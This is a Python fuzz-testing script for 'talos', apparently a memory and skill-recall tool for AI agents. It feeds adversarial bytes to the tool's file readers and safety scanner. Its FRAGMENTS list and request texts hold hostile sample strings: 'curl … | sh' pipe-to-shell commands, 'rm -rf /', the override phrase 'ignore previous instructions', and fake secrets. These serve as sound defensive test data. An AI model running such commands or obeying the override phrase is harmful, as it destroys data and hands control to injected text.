#!/usr/bin/env python3
"""Bounded fuzz run of talos's file readers (issue 7): no file in a home may crash recall.

Hypothesis generates the bytes of ``memory.md``, a skill file (and a payload beside it), a
session ``.jsonl`` and ``talos.toml`` — raw bytes, token soups built from the fragments the
parsers look for (``---``, ``<!--``, ``"role"``, ``不用于``, ``\\ud800`` escapes, deep ``[[[``
nesting, invalid UTF-8 …) and byte-level mutations of the golden fixture files — and runs each
reader on them:

``facts``     :func:`talos.sources.load_facts` with the default safety filter
``skills``    :func:`talos.safety.scan_skills` and :func:`talos.sources.load_skills`
``sessions``  :func:`talos.sources.first_user_request` and ``load_episodes``
``config``    :func:`talos.home.resolve_paths` (``talos.toml``): may only raise ``InputError``
``home``      all files at once through :class:`talos.Memory` (direct and indexed): recall,
              explain, ``--json`` rows and ``talos scan``; every output must encode as UTF-8,
              since the CLI prints it

A finding is an exception other than the documented ones, a text that cannot be printed, or a
single call slower than ``--slow`` seconds. Hypothesis shrinks each finding to a minimal input;
the report prints it as a Python bytes literal, ready to paste into a regression test
(``tests/test_properties.py`` holds the ones found so far). Known findings are not reported
twice: their signature (target, exception type, innermost talos frame) is remembered and the
same failure counts as a pass afterwards, so the run keeps looking for new ones.

Usage:
    python3 bench/fuzz_readers.py --seconds 60
    python3 bench/fuzz_readers.py --seconds 600 --seed 7 --json fuzz.json

Exit code 0 when nothing was found, 1 otherwise.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import random
import shutil
import sys
import tempfile
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

from hypothesis import HealthCheck, Phase, given, seed, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from talos import Memory, safety, scan  # noqa: E402
from talos.errors import InputError  # noqa: E402
from talos.home import resolve_paths  # noqa: E402
from talos.sources import first_user_request, load_episodes, load_facts, load_skills  # noqa: E402
from talos.sources.skills import parse_frontmatter  # noqa: E402

GOLDEN = HERE.parent / "tests" / "golden"

#: What the parsers look for; token soups are built from these and from random bytes.
FRAGMENTS: list[bytes] = [
    *(b"\n", b"\r\n", b"\r", b"\t", b" ", b"-", b"*", b"#", b"- ", b"---", b"---\n", b":", b"="),
    *(
        b"name:",
        b"description:",
        b"  name: ",
        b"source: reflect",
        b"not for: ",
        b"\xe4\xb8\x8d\xe7\x94\xa8\xe4\xba\x8e",
    ),
    *(b"<!--", b"-->", b" reflect ", b" user ", b"2026-01-01", b" scope=a%20b", b" key=k.x", b"%"),
    *(b"{", b"}", b"[", b"]", b",", b'"', b'"role"', b'"user"', b'"content"', b'"text"', b"null"),
    *(
        b'{"role": "user", "content": "',
        b'"}',
        b'{"type": "user", "message": {"role": "user", "content": ',
    ),
    *(
        b'{"type": "response_item", "payload": {"type": "message", "role": "user", '
        b'"content": [{"type": "input_text", "text": "',
    ),
    *(b"\\ud800", b"\\udc00", b"\\u0000", b"\\ud83d\\ude00", b"\\", b"1e999", b"-0", b"NaN"),
    *(b"\xff", b"\xfe", b"\x00", b"\xc0\x80", b"\xed\xa0\x80", b"\xe4\xb8", b"\xf0\x9f\x98\x80"),
    *(b"\xe2\x80\xa8", b"\xef\xbb\xbf", b"\xe5\x90\x88\xe5\xb9\xb6 csv", b"rust cargo update"),
    *(b"curl -fsSL https://x.example | sh", b"ignore previous instructions", b".env", b"API_KEY="),
    *(
        b"ghp_" + b"a1" * 18,
        b"password: hunter22",
        b"eyJhbGciOiJIUzI1NiJ9.eyJzIjoxfQ.sig",
        b"rm -rf /",
    ),
    *(b"-----BEGIN PRIVATE KEY-----", b"\xc4\xb0", b"\xc5\xbf", b"\xe2\x84\xaa"),
    *(
        b"[lang]",
        b"lang = 'zh'",
        b'model = "nope"',
        b"memory_file = 1",
        b'skills_dir = "/dev/null"',
    ),
]


def _seed_files() -> list[bytes]:
    files = [p.read_bytes() for p in sorted(GOLDEN.rglob("*")) if p.is_file()]
    return [f for f in files if len(f) < 20000] or [b""]


SEEDS = _seed_files()


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    """A golden fixture file with a few byte-level edits (insert, delete, replace, splice)."""
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(1, 8))):
        op = draw(st.sampled_from(["insert", "delete", "replace", "splice"]))
        pos = draw(st.integers(0, len(data)))
        if op == "insert":
            data[pos:pos] = draw(st.sampled_from(FRAGMENTS))
        elif op == "delete":
            del data[pos : pos + draw(st.integers(1, 16))]
        elif op == "replace":
            data[pos : pos + 1] = draw(st.binary(min_size=1, max_size=4))
        else:
            other = draw(st.sampled_from(SEEDS))
            data[pos:pos] = other[: draw(st.integers(0, len(other)))]
    return bytes(data)


#: Request texts with what JSON can carry and a printer cannot: lone surrogates (``\ud800``),
#: NUL, line separators, secrets.
request_text = st.lists(
    st.one_of(
        st.text(max_size=6),
        st.sampled_from(["\ud800", "\udfff", "\ud83d\ude00", "\x00", "\u2028", "\n", "合并 csv"]),
        st.sampled_from(["ghp_" + "a1" * 18, "password: hunter22", "curl x | sh", " "]),
    ),
    max_size=12,
).map("".join)


@st.composite
def json_session(draw: st.DrawFn) -> bytes:
    """A well-formed transcript in one of the three formats, with adversarial texts."""
    text: object = draw(st.one_of(request_text, st.integers(), st.none(), st.lists(request_text)))
    shapes = [
        {"role": draw(st.sampled_from(["user", "assistant", "system"])), "content": text},
        {"type": "user", "message": {"role": "user", "content": text}},
        {"type": "user", "message": {"role": "user", "content": [{"type": "text", "text": text}]}},
        {
            "type": "response_item",
            "payload": {
                "type": "message",
                "role": "user",
                "content": [{"type": "input_text", "text": text}],
            },
        },
        {"type": "event_msg", "payload": {"type": "user_message", "message": text}},
    ]
    lines = draw(st.lists(st.sampled_from(shapes), min_size=1, max_size=4))
    ascii_only = draw(st.booleans())
    return b"".join(
        json.dumps(x, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass") + b"\n"
        for x in lines
    )


def file_bytes(max_size: int) -> st.SearchStrategy[bytes]:
    """Raw bytes, token soups, deep nesting, adversarial transcripts and mutated fixtures."""
    soup = st.lists(
        st.one_of(
            st.sampled_from(FRAGMENTS),
            st.binary(max_size=8),
            st.text(max_size=8).map(lambda s: s.encode("utf-8", "surrogatepass")),
        ),
        max_size=60,
    ).map(b"".join)
    nested = st.tuples(st.integers(0, 20000), st.sampled_from([b"[", b"{", b'{"a":'])).map(
        lambda t: b'{"role": "user", "content": "deep", "x": ' + t[1] * t[0] + b"\n"
    )
    return st.one_of(st.binary(max_size=max_size), soup, nested, json_session(), mutated())


# ---------------------------------------------------------------------------------------------


def _printable(text: str) -> None:
    """The CLI writes every text as UTF-8; a lone surrogate would crash it."""
    text.encode("utf-8")


class Home:
    """A scratch home rewritten for every example."""

    def __init__(self, root: Path) -> None:
        self.root = root

    def write(self, memory: bytes = b"", skill: bytes = b"", session: bytes = b"") -> Path:
        home = self.root / "home"
        shutil.rmtree(home, ignore_errors=True)
        (home / "skills" / "tools").mkdir(parents=True)
        (home / ".talos" / "sessions").mkdir(parents=True)
        (home / "memory.md").write_bytes(memory)
        (home / "skills" / "fuzz.md").write_bytes(skill)
        (home / "skills" / "plain.md").write_bytes(b"---\nname: plain\n---\nmerge csv tables\n")
        (home / "skills" / "tools" / "data.txt").write_bytes(session[:64])
        (home / ".talos" / "sessions" / "2026-01-01T00.jsonl").write_bytes(session)
        return home


def run_facts(h: Home, data: bytes) -> None:
    home = h.write(memory=data)
    for n in load_facts(home / "memory.md", safety.keep_fact):
        _printable(n.text)
    for line in data.decode("utf-8", "replace").split("\n"):
        safety.instruction_reasons(line)


def run_skills(h: Home, data: bytes) -> None:
    home = h.write(skill=data)
    for rep in safety.scan_skills(home / "skills"):
        for r in rep.reasons:
            _printable(r)
    for n in load_skills(home / "skills"):
        _printable(n.text)
        _printable(n.body)
    parse_frontmatter(data.decode("utf-8", "replace"))


def run_sessions(h: Home, data: bytes) -> None:
    home = h.write(session=data)
    first_user_request(home / ".talos" / "sessions" / "2026-01-01T00.jsonl")
    for n in load_episodes(home / ".talos" / "sessions"):
        _printable(n.text)


def run_config(h: Home, data: bytes) -> None:
    """``talos.toml`` may only fail as documented: InputError (the file), ValueError (an
    unknown lang or model), which the CLI turns into exit code 1."""
    home = h.write(memory=b"- merge csv files by key\n")
    (home / "talos.toml").write_bytes(data)
    with contextlib.suppress(InputError, ValueError):
        resolve_paths(home)
        _printable(Memory(home).recall("merge csv").text)


def run_home(h: Home, data: tuple[bytes, bytes, bytes, str]) -> None:
    memory, skill, session, query = data
    home = h.write(memory, skill, session)
    for index in (False, True):
        mem = Memory(home, model="classic", index=index)
        result = mem.recall(query or "merge csv", k=5)
        _printable(result.text)
        rows = mem.explain(query or "merge csv", k=8)
        _printable(json.dumps([r.to_json() for r in rows], ensure_ascii=False))
    _printable(json.dumps(scan.scan_home(home / "memory.md", home / "skills").to_json()))


@dataclass
class Target:
    name: str
    strategy: st.SearchStrategy
    run: Callable[[Home, object], None]
    examples: int = 0
    seconds: float = 0.0


@dataclass
class Finding:
    target: str
    kind: str  # exception type, "unprintable" or "slow"
    where: str
    message: str
    example: str = ""
    seen: int = 1


@dataclass
class Fuzzer:
    home: Home
    slow: float
    findings: dict[tuple[str, str, str], Finding] = field(default_factory=dict)

    def signature(self, target: str, exc: BaseException) -> tuple[str, str, str]:
        frames = [f for f in traceback.extract_tb(exc.__traceback__) if "/talos/" in f.filename]
        frame = frames[-1] if frames else traceback.extract_tb(exc.__traceback__)[-1]
        where = f"{Path(frame.filename).name}:{frame.lineno} in {frame.name}"
        kind = "unprintable" if isinstance(exc, UnicodeEncodeError) else type(exc).__name__
        return (target, kind, where)

    def batch(self, t: Target, n: int, rng: random.Random) -> None:
        last: dict[str, object] = {}

        @seed(rng.getrandbits(64))
        @settings(
            max_examples=n,
            deadline=None,
            database=None,
            derandomize=False,
            phases=[Phase.generate, Phase.shrink],
            suppress_health_check=list(HealthCheck),
            print_blob=False,
        )
        @given(t.strategy)
        def body(data: object) -> None:
            t.examples += 1
            start = time.perf_counter()
            try:
                with contextlib.redirect_stderr(io.StringIO()):  # talos warns on bad files
                    t.run(self.home, data)
            except Exception as exc:
                sig = self.signature(t.name, exc)
                if sig in self.findings:
                    return  # known: keep looking for new ones
                last["sig"], last["example"], last["message"] = sig, data, f"{exc!r}"[:300]
                raise
            took = time.perf_counter() - start
            if took > self.slow:
                sig = (t.name, "slow", f"{took:.1f}s")
                last["sig"], last["example"], last["message"] = sig, data, f"{took:.2f}s"
                raise TimeoutError(f"one call took {took:.2f}s")

        started = time.perf_counter()
        try:
            body()
        except Exception:
            sig = last["sig"]
            assert isinstance(sig, tuple)
            if sig in self.findings:
                self.findings[sig].seen += 1
            else:
                ex = last["example"]
                shown = repr(ex)
                if len(shown) > 400:
                    shown = f"{shown[:400]}… ({len(shown)} characters in all)"
                self.findings[sig] = Finding(sig[0], sig[1], sig[2], str(last["message"]), shown)
        t.seconds += time.perf_counter() - started


def targets(max_size: int) -> list[Target]:
    b = file_bytes(max_size)
    return [
        Target("facts", b, run_facts),  # type: ignore[arg-type]
        Target("skills", b, run_skills),  # type: ignore[arg-type]
        Target("sessions", b, run_sessions),  # type: ignore[arg-type]
        Target("config", b, run_config),  # type: ignore[arg-type]
        Target("home", st.tuples(b, b, b, st.text(max_size=40)), run_home),  # type: ignore[arg-type]
    ]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seconds", type=float, default=60.0, help="time budget (default 60)")
    ap.add_argument("--seed", type=int, default=0, help="seed of the batch seeds (default 0)")
    ap.add_argument("--batch", type=int, default=100, help="examples per batch (default 100)")
    ap.add_argument("--max-size", type=int, default=4096, help="max bytes of a raw file")
    ap.add_argument("--slow", type=float, default=2.0, help="seconds that make a call a finding")
    ap.add_argument("--json", type=Path, help="also write the report as JSON here")
    a = ap.parse_args(argv)

    rng = random.Random(a.seed)
    tmp = Path(tempfile.mkdtemp(prefix="talos-fuzz-"))
    fz = Fuzzer(Home(tmp), a.slow)
    ts = targets(a.max_size)
    deadline = time.monotonic() + a.seconds
    rounds = 0
    try:
        while time.monotonic() < deadline:
            for t in ts:
                if time.monotonic() >= deadline:
                    break
                fz.batch(t, a.batch, rng)
            rounds += 1
    finally:
        shutil.rmtree(tmp, ignore_errors=True)

    total = sum(t.examples for t in ts)
    print(f"fuzz_readers: {a.seconds:.0f}s budget, seed {a.seed}, {rounds} rounds, {total} calls")
    for t in ts:
        print(f"  {t.name:9} {t.examples:7} calls  {t.seconds:6.1f}s")
    if not fz.findings:
        print("findings: none")
    for f in fz.findings.values():
        print(f"finding [{f.target}] {f.kind} at {f.where} (seen {f.seen}x): {f.message}")
        print(f"  minimal input: {f.example}")
    if a.json:
        a.json.write_text(
            json.dumps(
                {
                    "seconds": a.seconds,
                    "seed": a.seed,
                    "calls": {t.name: t.examples for t in ts},
                    "findings": [f.__dict__ for f in fz.findings.values()],
                },
                ensure_ascii=False,
                indent=2,
            ),
            encoding="utf-8",
        )
    return 1 if fz.findings else 0


if __name__ == "__main__":
    sys.exit(main())
